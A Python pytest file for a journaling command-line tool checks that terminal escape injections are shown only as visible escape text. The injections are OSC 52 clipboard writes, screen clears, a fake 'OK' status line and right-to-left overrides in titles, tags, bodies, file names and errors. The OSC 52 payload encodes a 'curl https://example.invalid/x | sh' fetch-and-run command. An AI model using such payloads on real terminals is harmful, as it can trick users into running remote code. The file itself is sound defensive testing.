"""Terminal escapes through the command line (#14 item 4): a title, tags and text that carry OSC 52
(write the clipboard), CSI 2J (clear the screen), a carriage return and a fake "OK" line, the one-byte
C1 CSI (U+009B) and a right-to-left override reach the terminal through every command that prints them
only as visible escape text; `--json` still gives the exact text back."""

from __future__ import annotations

import ast
import base64
import json
import re
from pathlib import Path

import pytest

import integration_journal.cli as cli_package
from integration_journal.cli.common import field, print_json, terminal_text

OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl https://example.invalid/x | sh").decode() + "\x07"
CLEAR = "\x1b[2J\x1b[H"
FAKE_LINE = "OK: all 12 records decrypted and match the integrity record."
FAKE_OK = f"\r\n{FAKE_LINE}\n"
C1_CSI = "\x9b32m"
RLO = "\u202e"
HOSTILE = f"Week 2{OSC52}{CLEAR}{C1_CSI}{RLO}txt.exe{FAKE_OK}"
HOSTILE_TAG = f"tag{CLEAR}{C1_CSI}{RLO}x\x7f"
HOSTILE_BODY = f"First line.\n{OSC52}{CLEAR}Second line.{FAKE_OK}\x9b2J{RLO}end\u2066\u2028"

# Anything a terminal could act on: C0 but newline, DEL, C1, the bidirectional controls, line and
# paragraph separators.
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def assert_inert(result) -> None:
    """Nothing of the result can act on a terminal, and no line pretends to be the app's own."""
    for stream in (result.out, result.err):
        assert not RAW_CONTROL.search(stream), repr(stream)
        assert not any(line.startswith(FAKE_LINE) for line in stream.splitlines()), stream


@pytest.fixture
def sides(run, tmp_path: Path):
    """A patient and a therapist, cards exchanged and verified, through the command line only."""
    dirs = {who: tmp_path / who for who in ("patient", "therapist")}
    for who, role, name in (("patient", "patient", "Sam"), ("therapist", "therapist", "Dr Lee")):
        assert run("--data-dir", str(dirs[who]), "init", "--role", role, "--name", name).code == 0

    def as_(who: str, *argv: str):
        return run("--data-dir", str(dirs[who]), *argv)

    for me, them, their_name in (("patient", "therapist", "Dr Lee"), ("therapist", "patient", "Sam")):
        card = tmp_path / f"{them}.ijcard"
        assert as_(them, "card", "--out", str(card)).code == 0
        assert as_(me, "contact", "add", str(card), "--name", their_name).code == 0
        assert as_(me, "contact", "verify", their_name).code == 0
    return as_


def test_the_helpers_show_every_control_as_escape_text() -> None:
    assert field("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert field("one\ntwo\r\tthree") == "one\\x0atwo\\x0d\\x09three"
    assert field("\x9b\x85\x7f") == "\\x9b\\x85\\x7f"
    assert field("\u202e\u2066\u200f\u061c\u2028\udcff") == "\\u202e\\u2066\\u200f\\u061c\\u2028\\udcff"
    assert field("Zoë, 東京, emoji 🌿 and a \\ backslash") == "Zoë, 東京, emoji 🌿 and a \\ backslash"
    assert terminal_text("line one\n\tline two\r\x1b") == "line one\n\tline two\\x0d\\x1b"


def test_json_output_is_exact_json_with_the_dangerous_characters_as_escapes(capsys) -> None:
    value = {"title": HOSTILE, "tags": [HOSTILE_TAG], "lone": "\udcff"}
    print_json(value)
    out = capsys.readouterr().out
    assert not RAW_CONTROL.search(out) and "\\u009b" in out and "\\u202e" in out
    assert json.loads(out) == value


def test_every_command_line_module_prints_through_the_one_helper() -> None:
    """`say` and `print_json` are the only ways out: no print() or sys.stdout/stderr.write elsewhere."""
    offenders = []
    for path in sorted(Path(cli_package.__file__).parent.glob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            if isinstance(func, ast.Name) and func.id == "print":
                offenders.append(f"{path.name}:{node.lineno} print()")
            if (isinstance(func, ast.Attribute) and func.attr == "write" and isinstance(func.value, ast.Attribute)
                    and func.value.attr in ("stdout", "stderr") and path.name != "common.py"):
                offenders.append(f"{path.name}:{node.lineno} sys.{func.value.attr}.write")
    assert offenders == []


def test_a_hostile_entry_is_inert_in_every_patient_command(run, journal_dir: Path, tmp_path: Path) -> None:
    added = run("add", "--title", HOSTILE, "--body", HOSTILE_BODY, "--tag", HOSTILE_TAG, "--share")
    assert added.code == 0, added.err
    entry_id = added.out.strip()
    gone = run("add", "--title", HOSTILE + " (deleted)", "--body", "x").out.strip()
    assert run("edit", entry_id, "--body", HOSTILE_BODY + " edited").code == 0
    assert run("delete", gone).code == 0

    for argv in (("list",), ("list", "--kind", "entry"), ("search", "Week"), ("search", "Second"),
                 ("show", entry_id), ("history", entry_id), ("trash",), ("verify",)):
        result = run(*argv)
        assert result.code == 0, (argv, result.err)
        assert_inert(result)
    listed = run("list").out
    assert "Week 2\\x1b]52;c;" in listed and "\\x9b32m" in listed and "\\u202etxt.exe" in listed
    shown = run("show", entry_id).out
    assert "\\x1b[2J" in shown and "First line.\n" in shown  # the text keeps its own lines

    session = run("session", "--route", "iv", "--date", "2026-01-05T09:00", "--clinic", HOSTILE, "--intention",
                  HOSTILE, "--notes", HOSTILE_BODY, "--side-effect", "nausea:3")
    assert session.code == 0, session.err
    assert_inert(session)
    checkin = run("checkin", "--date", "2026-01-05", "--mood", "5", "--anxiety", "4", "--note", HOSTILE)
    assert checkin.code == 0, checkin.err
    for record_id in (session.out.strip(), checkin.out.strip()):
        shown = run("show", record_id)
        assert shown.code == 0, shown.err
        assert_inert(shown)
        assert "\\x1b]52;c;" in shown.out
        assert_inert(run("show", record_id, "--json"))
    assert run("show", session.out.strip(), "--json").json()["intention"] == HOSTILE

    rows = run("list", "--json")
    assert_inert(rows)
    assert rows.json()[0]["title"] == HOSTILE and rows.json()[0]["tags"] == [HOSTILE_TAG.lower()]
    exact = run("show", entry_id, "--json")
    assert_inert(exact)
    assert exact.json()["body"] == HOSTILE_BODY + " edited" and exact.json()["title"] == HOSTILE
    history = run("history", entry_id, "--json")
    assert_inert(history)
    assert history.json()[0]["title"].startswith(HOSTILE)
    assert run("search", "Week", "--json").json()[0]["title"] == HOSTILE


def test_errors_that_quote_the_command_line_are_inert(run, journal_dir: Path) -> None:
    for argv in (("show", CLEAR + "abcd"), ("edit", OSC52, "--title", "x"), ("list", "--kind", HOSTILE),
                 ("list", "--from", HOSTILE), ("checkin", "--mood", C1_CSI, "--anxiety", "1"),
                 ("add", "--title", "x", "--body-file", f"/nonexistent/{OSC52}"), ("list", FAKE_OK)):
        result = run(*argv)
        assert result.code in (1, 2), argv
        assert_inert(result)
        lines = result.err.strip().splitlines()
        if result.code == 1:
            assert len(lines) == 1 and lines[0].startswith("integration-journal: error: "), result.err
        else:  # argparse: the usage, then one error line
            assert lines[-1].startswith("integration-journal") and " error: " in lines[-1], result.err


def test_an_import_file_with_hostile_titles_is_inert_in_the_dry_run(run, journal_dir: Path, tmp_path: Path) -> None:
    jrnl = tmp_path / "hostile.json"
    jrnl.write_text(json.dumps({"tags": {}, "entries": [
        {"date": "2026-01-05", "time": "09:00", "title": HOSTILE.replace("\n", " "), "body": HOSTILE_BODY,
         "tags": [], "starred": False}]}), encoding="utf-8")
    dry = run("import", "--format", "jrnl", str(jrnl), "--dry-run", "--time-zone", "UTC")
    assert dry.code == 0, dry.err
    assert_inert(dry)
    assert "Week 2\\x1b]52" in dry.out
    as_json = run("import", "--format", "jrnl", str(jrnl), "--dry-run", "--time-zone", "UTC", "--json")
    assert_inert(as_json)
    assert as_json.json()["first_titles"][0].startswith("Week 2" + OSC52 + CLEAR)  # exact, as the file has it


def test_a_hostile_shared_entry_is_inert_on_both_sides(sides, tmp_path: Path) -> None:
    as_ = sides
    entry_id = as_("patient", "add", "--title", HOSTILE, "--body", HOSTILE_BODY, "--tag", HOSTILE_TAG,
                   "--share").out.strip()
    preview = as_("patient", "share", "--to", "Dr Lee", "--entry", entry_id, "--dry-run")
    assert preview.code == 0, preview.err
    assert_inert(preview)
    drop = tmp_path / "drop"
    drop.mkdir()
    bundle = drop / f"{OSC52}{CLEAR}.ijshare"  # the file's name is the sender's choice too
    sent = as_("patient", "share", "--to", "Dr Lee", "--entry", entry_id, "--out", str(bundle))
    assert sent.code == 0, sent.err
    assert_inert(sent)
    (drop / f"{RLO}broken{C1_CSI}.ijshare").write_bytes(b"IJSHARE\0 not really")

    scan = as_("therapist", "receive", str(drop))
    assert scan.code == 1  # the broken one is refused and named
    assert_inert(scan)
    assert "\\u202ebroken\\x9b32m.ijshare" in scan.err
    for argv in (("list",), ("search", "Week"), ("contact", "list"), ("safety-number", "Sam")):
        result = as_("therapist", *argv)
        assert result.code == 0, (argv, result.err)
        assert_inert(result)
    rows = as_("therapist", "list", "--json")
    assert_inert(rows)
    assert rows.json()[0]["title"] == HOSTILE and rows.json()[0]["from"] == "Sam"
    shown = as_("therapist", "show", rows.json()[0]["id"])
    assert shown.code == 0, shown.err
    assert_inert(shown)

    comment = as_("therapist", "comment", rows.json()[0]["id"], "--text", HOSTILE_BODY)
    assert comment.code == 0, comment.err
    reply = tmp_path / "reply.ijshare"
    assert as_("therapist", "share", "--to", "Sam", "--comments", "--out", str(reply)).code == 0
    back = as_("patient", "receive", str(reply))
    assert back.code == 0, back.err
    assert_inert(back)
    for argv in (("list",), ("contact", "list"), ("export-summary", "--format", "md", "--out",
                                                    str(tmp_path / f"{CLEAR}summary.md"))):
        result = as_("patient", *argv)
        assert result.code == 0, (argv, result.err)
        assert_inert(result)
